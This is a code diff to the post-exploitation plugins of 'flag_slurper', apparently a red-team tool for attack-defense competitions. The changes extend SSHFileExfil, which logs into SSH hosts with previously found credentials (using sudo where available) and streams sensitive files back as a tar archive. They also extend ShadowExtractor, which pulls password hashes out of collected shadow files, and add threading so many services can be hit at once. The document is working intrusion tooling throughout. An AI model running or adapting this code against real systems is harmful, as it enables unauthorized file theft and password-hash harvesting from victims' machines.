@@ -12,18 +12,24 @@ Things that belong here:
 Things that don't belong here:
 - grabbing flags
 """
+import io
 import logging
 import os
+import tarfile
+import threading
 from abc import ABC, abstractmethod
 from collections import deque
-from typing import Tuple, Type, Dict, List, Iterable
+from typing import Type, Dict, List, Iterable
 
 import paramiko
 from schema import Schema, Optional
 
 from flag_slurper.autolib import Service
-from .exploit import get_directory, get_file, run_command, run_sudo, expand_wildcard
-from .models import Credential, File, ShadowEntry
+from . import filetype
+from .exploit import get_archive, get_directory, get_file, expand_wildcard, SUDO_OPT
+from .models import Credential, CredentialBag, File
+from .records import Records
+from .sessions import SSHSessions
 
 logger = logging.getLogger(__name__)
 
@@ -78,6 +84,14 @@ class PostContext(dict):
         Schema(schema, ignore_extra_keys=True).validate(self)
         return self
 
+    @property
+    def records(self) -> Records:
+        """
+        The database writes made while attacking this service. These are
+        committed by the caller once the attack is over.
+        """
+        return self.setdefault('records', Records())
+
 
 class PostPlugin(ABC):
     """
@@ -174,9 +188,36 @@ class PluginRegistry:
 
     This handles configuring and figuring out which plugins will
     need to be run.
+
+    Plugins hold the configuration for the service currently being
+    attacked, so every thread gets its own set of plugin instances.
+    This lets the async engine post pwn several services at once.
     """
     def __init__(self):
-        self.registry: Dict[str, PostPlugin] = {}
+        self.plugins: Dict[str, Type[PostPlugin]] = {}
+        self._local = threading.local()
+
+    @property
+    def registry(self) -> Dict[str, PostPlugin]:
+        """
+        The plugin instances for the current thread.
+        """
+        if not hasattr(self._local, 'registry'):
+            self._local.registry = {name: plugin() for name, plugin in self.plugins.items()}
+        return self._local.registry
+
+    @property
+    def run_plugins(self) -> List[str]:
+        """
+        The plugins that will be used for the current run.
+        """
+        if not hasattr(self._local, 'run_plugins'):
+            self._local.run_plugins = []
+        return self._local.run_plugins
+
+    @run_plugins.setter
+    def run_plugins(self, value: List[str]):
+        self._local.run_plugins = value
 
     def register(self, plugin: Type[PostPlugin]):
         """
@@ -188,13 +229,11 @@ class PluginRegistry:
         """
         if not issubclass(plugin, PostPlugin):
             raise ValueError('Plugins must extend PostPlugin')
-        if plugin.name in self.registry:
+        if plugin.name in self.plugins:
             raise ValueError('Plugin already registered by this name: {}'.format(plugin.name))
+        self.plugins[plugin.name] = plugin
         self.registry[plugin.name] = plugin()
 
-        # The plugins that will be used for the current run
-        self.run_plugins = []
-
     def configure(self, config: List[dict]):
         """
         Configure the plugins that will be used for this run.
@@ -252,15 +291,21 @@ class SSHFileExfil(PostPlugin):
         Set to ``True`` if you want to merge ``files`` with ``SENSITIVE_FILES``, otherwise
         only ``files`` will be searched.
 
-    This plugin will run automatically for all services using port 22.
+    ``bulk``: Boolean
+        Set to ``False`` to fetch every file with its own ``cat``. By default all of the files
+        are streamed back in a single ``tar`` and unpacked locally, falling back to fetching
+        files one by one if the host can't produce an archive.
+
+    This plugin will run automatically for all SSH services.
     """
     name = 'ssh_exfil'
     schema = {
         Optional('files', default=[]): [str],
         Optional('merge_files', default=True): bool,
+        Optional('bulk', default=True): bool,
     }
     context_schema = {
-        'ssh': paramiko.SSHClient,
+        'sessions': SSHSessions,
         'credentials': object,
     }
 
@@ -271,22 +316,38 @@ class SSHFileExfil(PostPlugin):
             self.config = {
                 'files': [],
                 'merge_files': True,
+                'bulk': True,
             }
 
-        credentials: Iterable[Credential] = context['credentials']
-        ssh: paramiko.SSHClient = context['ssh']
-
-        def _map_creds(bag):
-            return bag.credentials.where(Credential.service == service).get()
-        credentials = map(_map_creds, credentials)
-
-        working_creds = filter(lambda c: c.state == Credential.WORKS, credentials)
-        for credential in working_creds:
-            ssh.connect(service.service_url, service.service_port, credential.bag.username, credential.bag.password)
-            self._post(credential, ssh)
-
-    def _post(self, credential: Credential, ssh: paramiko.SSHClient):
-        sensitive_files: list = self.config['files']
+        bags: Iterable[CredentialBag] = context['credentials']
+        sessions: SSHSessions = context['sessions']
+
+        # The credentials pwn_ssh just found, plus ones that worked in an earlier run and weren't tried
+        # this time (such as when running incrementally). A credential that was just tried and failed is dead.
+        bags = {bag.id: bag for bag in bags}
+        attempted = context.records.attempted(service)
+        working = {cred.bag_id: cred.sudo for cred in Credential.select().where(
+            Credential.service == service,
+            Credential.state == Credential.WORKS,
+            Credential.bag.in_([bag_id for bag_id in bags if bag_id not in attempted]),
+        )}
+        for bag_id, sudo in context.records.working(service).items():
+            working[bag_id] = working.get(bag_id, False) or sudo
+
+        for bag_id, sudo in working.items():
+            credential = Credential(bag=bags[bag_id], service=service, state=Credential.WORKS, sudo=sudo)
+            # Reuses the session pwn_ssh already authenticated, when there is one
+            try:
+                ssh = sessions.connect(service.service_url, service.service_port, credential.bag.username,
+                                       credential.bag.password)
+            except (paramiko.SSHException, OSError):
+                logger.warning('Unable to log in to %s as %s for post pwn', service.service_url,
+                               credential.bag.username)
+                continue
+            self._post(credential, ssh, context.records)
+
+    def _post(self, credential: Credential, ssh: paramiko.SSHClient, records: Records):
+        sensitive_files: list = list(self.config['files'])
         if self.config['merge_files']:
             sensitive_files.extend(SENSITIVE_FILES)
 
@@ -295,21 +356,50 @@ class SSHFileExfil(PostPlugin):
         # functions so they can use it.
         sudo = credential.bag.password if credential.sudo else None
 
-        # Stag 1 - Sensitive Files
+        # Stage 1 - Sensitive Files
+        if self.config.get('bulk', True):
+            if self._post_bulk(credential, ssh, sensitive_files, sudo, records):
+                return True
+            logger.info('Unable to archive sensitive files, fetching them individually')
+        return self._post_files(credential, ssh, sensitive_files, sudo, records)
 
-        def _get_file_info(path: str) -> Tuple[str, str]:
-            name_cmd = 'file -b {}'.format(path)
-            mime_cmd = 'file -i -b {}'.format(path)
-            if sudo:
-                _, stdout, _ = run_sudo(ssh, name_cmd, sudo)
-                name = stdout.read().decode('utf-8').strip()
-                _, stdout, _ = run_sudo(ssh, mime_cmd, sudo)
-                mime = stdout.read().decode('utf-8').strip()
-            else:
-                name = run_command(ssh, name_cmd)
-                mime = run_command(ssh, mime_cmd)
-            return name, mime
+    def _post_bulk(self, credential: Credential, ssh: paramiko.SSHClient, sensitive_files: List[str],
+                   sudo: SUDO_OPT, records: Records) -> bool:
+        """
+        Collect every sensitive file in one round-trip by streaming back a tar archive.
 
+        :return: Whether an archive was retrieved
+        """
+        archive = get_archive(ssh, sensitive_files, sudo)
+        if not archive:
+            return False
+
+        try:
+            tar = tarfile.open(fileobj=io.BytesIO(archive), mode='r:gz')
+            members = [member for member in tar.getmembers() if member.isfile()]
+        except (tarfile.TarError, EOFError, OSError):
+            logger.exception('Invalid archive of sensitive files from %s', credential.service.service_url)
+            return False
+
+        existing = {f.path for f in File.select(File.path).where(File.service == credential.service)}
+        existing.update(f['path'] for f in records.files(credential.service))
+        for member in members:
+            # tar strips the leading / from absolute paths
+            path = '/' + member.name.lstrip('/')
+            if path in existing:
+                continue
+
+            contents = tar.extractfile(member).read()
+            info, mime_type = filetype.detect(contents)
+            records.file(credential.service, path, contents, mime_type, info)
+            existing.add(path)
+        return True
+
+    def _post_files(self, credential: Credential, ssh: paramiko.SSHClient, sensitive_files: List[str],
+                    sudo: SUDO_OPT, records: Records) -> bool:
+        """
+        Collect every sensitive file one at a time.
+        """
         queue = deque(sensitive_files)
         while len(queue):
             path = queue.pop()
@@ -330,26 +420,28 @@ class SSHFileExfil(PostPlugin):
             else:
                 if File.select().where(File.service == credential.service, File.path == path).count() >= 1:
                     continue
+                if any(f['path'] == path for f in records.files(credential.service)):
+                    continue
 
-                info = _get_file_info(path)
                 contents = get_file(ssh, path, sudo)
                 if contents:
-                    File.create(path=path, contents=contents, mime_type=info[1], info=info[0],
-                                service=credential.service)
+                    info, mime_type = filetype.detect(contents)
+                    records.file(credential.service, path, contents, mime_type, info)
                 else:
                     logger.error('There was an error retrieving sensitive file %s: %s', path, contents)
                     return False
         return True
 
     def predicate(self, service: Service, context: PostContext) -> bool:
-        return service.service_port == 22
+        from .service import detect_service
+        return detect_service(service)[0] == 'ssh'
 
 
 class ShadowExtractor(PostPlugin):
     """
     Extract hashes out of collected files.
 
-    This plugin will run automatically for all services using port 22.
+    This plugin will run automatically for all SSH services.
     """
     name = 'shadow'
     schema = {}
@@ -360,23 +452,29 @@ class ShadowExtractor(PostPlugin):
         super().run(service, context)
         logger.debug('Running post shadow extractor')
 
-        files = File.select().where(File.service == service, File.path.endswith('/shadow'))
-        for file in files:
-            contents = file.contents.tobytes().decode('utf-8')
-            [self._parse_shadow(line, file, service) for line in contents.split('\n')]
+        # Shadow files collected earlier in this attack haven't been committed yet
+        files = {f.path: f.contents.tobytes()
+                 for f in File.select().where(File.service == service, File.path.endswith('/shadow'))}
+        for f in context.records.files(service):
+            if f['path'].endswith('/shadow'):
+                files.setdefault(f['path'], f['contents'])
+
+        for path, contents in files.items():
+            [self._parse_shadow(line, path, service, context.records) for line in contents.decode('utf-8').split('\n')]
 
     @staticmethod
-    def _parse_shadow(line: str, file: File, service: Service):
+    def _parse_shadow(line: str, path: str, service: Service, records: Records):
         (username, hash, *_) = line.split(':')
         if hash == '*' or hash == '!':
             logger.debug('skipping user without hash %s', username)
             return
 
         logger.info('Found valid hash for %s', username)
-        ShadowEntry.create(source=file, service=service, username=username, hash=hash)
+        records.shadow(service, path, username, hash)
 
     def predicate(self, service: Service, context: PostContext) -> bool:
-        return service.service_port == 22
+        from .service import detect_service
+        return detect_service(service)[0] == 'ssh'
 
 
 registry = PluginRegistry()